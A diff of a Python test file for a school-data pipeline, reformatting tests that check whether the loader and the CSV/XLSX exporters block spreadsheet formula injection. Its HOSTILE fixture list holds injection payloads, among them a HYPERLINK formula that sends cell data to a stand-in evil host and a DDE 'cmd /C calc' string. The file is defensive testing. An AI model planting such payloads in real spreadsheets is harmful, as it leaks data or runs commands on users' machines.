@@ -4,6 +4,7 @@ Two layers: the loader rejects school and board names that start like a formula 
 ``formula_like_name``), and the export writers neutralise any formula-like text that still
 reaches them (CSV: a leading apostrophe; XLSX: a string cell, never a formula).
 """
+
 from __future__ import annotations
 
 import csv
@@ -13,13 +14,15 @@ from pathlib import Path
 
 import duckdb
 import pytest
+from conftest import make_settings
 from openpyxl import Workbook, load_workbook
 
-from conftest import make_settings
 from ouderpeil.spreadsheet_safety import csv_safe, is_formula_like, xlsx_safe_row
 
-HEADER = ("BRIN-vestiging;Naam school;Sector;Bestuursnummer;Naam bestuur;Gemeente;Schoolweging;"
-          "Adres;Telefoonnummer;E-mailadres")
+HEADER = (
+    "BRIN-vestiging;Naam school;Sector;Bestuursnummer;Naam bestuur;Gemeente;Schoolweging;"
+    "Adres;Telefoonnummer;E-mailadres"
+)
 # (school name, board name): each starts like a formula in at least one spreadsheet.
 HOSTILE = [
     ('=HYPERLINK("http://evil.invalid/?"&A1,"Klik")', "Stichting Gewoon"),
@@ -28,7 +31,7 @@ HOSTILE = [
     ("@SUM(1+1)*cmd|' /C calc'!A0", "Stichting Gewoon"),
     ("\t=1+1", "Stichting Gewoon"),
     ("\r=1+1", "Stichting Gewoon"),
-    ("\uff1dHYPERLINK(\"http://evil.invalid\")", "Stichting Gewoon"),
+    ('\uff1dHYPERLINK("http://evil.invalid")', "Stichting Gewoon"),
     ("  =1+1", "Stichting Gewoon"),
     ("Basisschool Gewoon", '=HYPERLINK("http://evil.invalid","Bestuur")'),
     ("Basisschool Ook Gewoon", "@cmd"),
@@ -47,11 +50,15 @@ def hostile_schools_csv(path: Path, keep: Path | None = None) -> list[str]:
     for i, (school, board) in enumerate(HOSTILE):
         school_id = f"9{i}ZZ00"
         ids.append(school_id)
-        lines.append(f"{school_id};{_quote(school)};PO;49{i:03d};{_quote(board)};Utrecht;30,0;"
-                     "Straat 1, Utrecht;06-00000000;x@example.nl")
+        lines.append(
+            f"{school_id};{_quote(school)};PO;49{i:03d};{_quote(board)};Utrecht;30,0;"
+            "Straat 1, Utrecht;06-00000000;x@example.nl"
+        )
     for i, school in enumerate(SAFE_NAMES):
-        lines.append(f"8{i}YY00;{_quote(school)};PO;41037;Stichting Gewoon;Utrecht;30,0;"
-                     "Straat 1, Utrecht;06-00000000;x@example.nl")
+        lines.append(
+            f"8{i}YY00;{_quote(school)};PO;41037;Stichting Gewoon;Utrecht;30,0;"
+            "Straat 1, Utrecht;06-00000000;x@example.nl"
+        )
     path.parent.mkdir(parents=True, exist_ok=True)
     path.write_bytes(("\r\n".join(lines) + "\r\n").encode("utf-8"))
     return ids
@@ -77,10 +84,11 @@ def test_xlsx_cells_are_stored_as_text_never_as_formulas(tmp_path):
         assert "<f>" not in zf.read("xl/worksheets/sheet1.xml").decode()
     cells = next(load_workbook(path).active.iter_rows())
     texts = [s for s, _ in HOSTILE] + SAFE_NAMES
-    assert all(c.data_type == "s" for c in cells[:len(texts)])
+    assert all(c.data_type == "s" for c in cells[: len(texts)])
     # XML turns a carriage return into a newline on reading; the text is otherwise intact.
-    assert [c.value.replace("\r", "\n") for c in cells[:len(texts)]] == \
-        [t.replace("\r", "\n") for t in texts]
+    assert [c.value.replace("\r", "\n") for c in cells[: len(texts)]] == [
+        t.replace("\r", "\n") for t in texts
+    ]
     assert [c.value for c in cells[-2:]] == [-0.05, 3]
 
 
@@ -96,21 +104,24 @@ def test_the_loader_rejects_formula_like_school_and_board_names(settings):
     con = duckdb.connect(str(settings.warehouse_path), read_only=True)
     try:
         loaded = {r[0] for r in con.execute("select school_name from raw.schools").fetchall()}
-        rejects = con.execute("select file_name, row_number, column_name, value, reason "
-                              "from raw.raw_rejects order by row_number").fetchall()
+        rejects = con.execute(
+            "select file_name, row_number, column_name, value, reason "
+            "from raw.raw_rejects order by row_number"
+        ).fetchall()
         kept_ids = {r[0] for r in con.execute("select school_id from raw.schools").fetchall()}
     finally:
         con.close()
     assert loaded == set(SAFE_NAMES)
     assert not kept_ids & set(ids)
     # Each reject names the file, the row (header = row 1) and the column, with the value.
-    assert [(f, n) for f, n, *_ in rejects] == [("schools.csv", i + 2)
-                                                for i in range(len(HOSTILE))]
+    assert [(f, n) for f, n, *_ in rejects] == [("schools.csv", i + 2) for i in range(len(HOSTILE))]
     for (_, _, column, value, reason), (school, board) in zip(rejects, HOSTILE):
         assert reason == "formula_like_name"
         expected = ("school_name", school) if is_formula_like(school) else ("board_name", board)
-        assert (column, value.replace("\r", "").replace("\t", "").strip()) == \
-            (expected[0], expected[1].replace("\r", "").replace("\t", "").strip())
+        assert (column, value.replace("\r", "").replace("\t", "").strip()) == (
+            expected[0],
+            expected[1].replace("\r", "").replace("\t", "").strip(),
+        )
 
 
 def _assert_no_formula(export_dir: Path, hostile_texts: list[str]) -> dict[str, int]:
@@ -145,7 +156,8 @@ def _is_number(text: str) -> bool:
 
 @pytest.mark.slow
 def test_hostile_schools_through_load_build_publish_export_leave_no_formula(
-        tmp_path_factory, small_inbox):
+    tmp_path_factory, small_inbox
+):
     """The real pipeline on the sample data with hostile rows added to schools.csv; then a
     published name is made hostile on purpose, to prove the writers hold on their own too."""
     from ouderpeil.export import export
@@ -169,9 +181,13 @@ def test_hostile_schools_through_load_build_publish_export_leave_no_formula(
     con = duckdb.connect(str(settings.serving_path), read_only=True)
     try:
         period = con.execute("select max(school_year) from indicator").fetchall()[0][0]
-        names = {r[0] for r in con.execute(
-            "select distinct school_name from indicator union "
-            "select distinct board_name from indicator").fetchall()}
+        names = {
+            r[0]
+            for r in con.execute(
+                "select distinct school_name from indicator union "
+                "select distinct board_name from indicator"
+            ).fetchall()
+        }
     finally:
         con.close()
     assert not [n for n in names if is_formula_like(n)], names
@@ -196,6 +212,11 @@ def test_hostile_schools_through_load_build_publish_export_leave_no_formula(
             text = "".join(p.read_text(encoding="utf-8") for p in out.rglob("*.csv"))
             assert "'" + evil.replace('"', '""') in text  # kept, readable, as text
         else:
-            values = {c.value for p in out.rglob("*.xlsx") for ws in load_workbook(p).worksheets
-                      for row in ws.iter_rows() for c in row}
+            values = {
+                c.value
+                for p in out.rglob("*.xlsx")
+                for ws in load_workbook(p).worksheets
+                for row in ws.iter_rows()
+                for c in row
+            }
             assert evil in values and "@SUM(1+1)" in values
